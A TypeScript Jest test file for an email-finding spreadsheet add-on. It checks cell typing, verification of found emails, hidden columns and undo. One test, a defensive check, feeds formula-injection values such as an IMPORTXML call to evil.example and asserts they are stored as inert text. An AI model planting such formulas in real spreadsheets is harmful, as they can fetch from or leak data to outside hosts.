import { afterAll, afterEach, beforeAll, describe, expect, test } from "@jest/globals";
import type { FindOptions } from "../../../src/jobs/protocol";
import type { ColumnPlan } from "../../../src/jobs/views";
import { companies, findEmails } from "./find-document";
import { dataOf, type JobDocument, type JobWorld, openJobWorld } from "./job-document";

let world: JobWorld;
let fetchOfService: JobWorld["service"]["fetch"];
beforeAll(async () => {
  world = await openJobWorld();
  fetchOfService = world.service.fetch;
});
afterAll(() => world.close());
afterEach(() => {
  world.service.fetch = fetchOfService;
});

/** A service that finds this one email for every company. */
function answerWith(email: Record<string, unknown>, company_enrichment: Record<string, unknown>): void {
  world.service.fetch = async (request) => {
    if (!request.url.endsWith("domain-search")) return fetchOfService(request);
    const { company } = JSON.parse(await request.text());
    const meta = {
      search_id: "s",
      total_emails: 1,
      remaining_emails: 0,
      more_results: false,
      domain: company,
      limit: 50,
    };
    return Response.json({ error: false, response: { email_list: [email], company_enrichment, meta } });
  };
}

/** What the first row of found emails holds, by header. */
function heldCells(document: JobDocument): Record<string, unknown> {
  const { workbook } = document.document;
  const { sheetId = -1 } = workbook.sheets().find(({ name }) => name === "Emails") ?? {};
  const [header = [], cells = []] = workbook.read(sheetId, { row: 1, column: 1, rows: 2, columns: 20 });
  return Object.fromEntries(
    header.flatMap(({ value }, i) => (value ? [[value, cells[i]?.formula ?? cells[i]?.value]] : [])),
  );
}

describe("cells of found emails", () => {
  test("are numbers, truths and dates as such, links as text, and everything else harmless text", async () => {
    const email = {
      email: "=HYPERLINK(1)@acme.example",
      email_type: "+1",
      first_name: "TRUE",
      last_name: "1/2",
      email_anon_id: "00123",
      verification: { status: "-1", last_verified_at: "2024-02-29 12:30:00+00:00" },
    };
    const enrichment = {
      name: '=IMPORTXML("https://evil.example","//a")',
      size: "11-50",
      founded_in: 1999,
      is_catch_all: false,
      website: "https://acme.example/?x=1",
      location: { postal_code: "01234", country: null },
    };
    answerWith(email, enrichment);
    const document = world.open(companies(["acme.example"]));
    const fields: FindOptions["enrichment"] = [
      "name",
      "size",
      "founded_in",
      "is_catch_all",
      "website",
      "location.postal_code",
      "location.country",
    ];
    await findEmails(document, {}, { enrichment: fields });
    const time = (Date.UTC(2024, 1, 29, 12, 30) - Date.UTC(1899, 11, 30)) / (24 * 60 * 60 * 1_000);
    expect(heldCells(document)).toEqual({
      Company: "acme.example",
      Email: email.email,
      Type: "+1",
      "First name": "TRUE",
      "Last name": "1/2",
      "Email ID": "00123",
      "Status when found": "-1",
      "Last verified": time,
      "Company name": enrichment.name,
      "Company size": "11-50",
      "Company founded": 1999,
      "Company catch-all domain": false,
      "Company website": "https://acme.example/?x=1",
      "Company country": null,
      "Company postal code": "01234",
      "found by": expect.stringMatching(/^[a-z0-9]+:acme\.example =hyperlink\(1\)@acme\.example$/),
    });
  });

  test("are verified for less: what the search calls VALID is left out, others are asked by their ids", async () => {
    const document = world.open(companies(["reliable.example", "three-emails.example"]));
    await findEmails(document);
    const emails = document.rows("Emails");
    const valid = emails.filter((row) => row["verification.status"] === "VALID").length;
    expect(valid).toBeGreaterThan(0);
    expect(valid).toBeLessThan(emails.length);
    const { sheetId = -1 } = document.document.workbook.sheets().find(({ name }) => name === "Emails") ?? {};
    await document.verify({ sheetId, column: 2 });
    const asked = document.asked("email-verifier").map(({ request }) => request);
    expect(asked).toHaveLength(emails.length - valid);
    expect(asked.every((request) => "email_anon_id" in request)).toBe(true);
    const plan = dataOf(
      await document.call("planJob", {
        kind: "verify",
        sheetId,
        column: 2,
        headerRow: 1,
        rows: { kind: "todo" },
        fields: ["email_status"],
        alsoFoundValid: false,
      }),
    ) as ColumnPlan;
    expect(plan.counts).toMatchObject({ done: emails.length, todo: 0 });
    // One column says of every row whether it can be mailed; the one that the search has written is out of the way.
    const hidden = (): string[] => {
      const { workbook, keyboard } = { workbook: document.document.workbook, keyboard: document.user.keyboard };
      const [header = []] = keyboard.shows("Emails", "A1:Z1");
      return [...workbook.hidden(sheetId, "columns")].map((column) => header[column - 1] ?? "");
    };
    expect(hidden().sort()).toEqual(["Status when found", "found by", "verified for"]);
    const verified = document.rows("Emails");
    expect(verified.every(({ email_status }) => /^(VALID|INVALID|CATCH_ALL)$/.test(String(email_status)))).toBe(true);
    expect(verified.filter((row) => row["verification.status"] === "VALID").map((row) => row.email_status)).toEqual(
      Array(valid).fill("VALID"),
    );
    expect(document.asked("email-verifier")).toHaveLength(emails.length - valid);
    // Undone, the search's own column is back.
    const { id } = await document.last();
    await document.undo(id);
    expect(hidden()).toEqual(["found by"]);
    await document.verify({ sheetId, column: 2, alsoFoundValid: true });
    expect(document.asked("email-verifier")).toHaveLength(2 * emails.length - valid);
  });
});
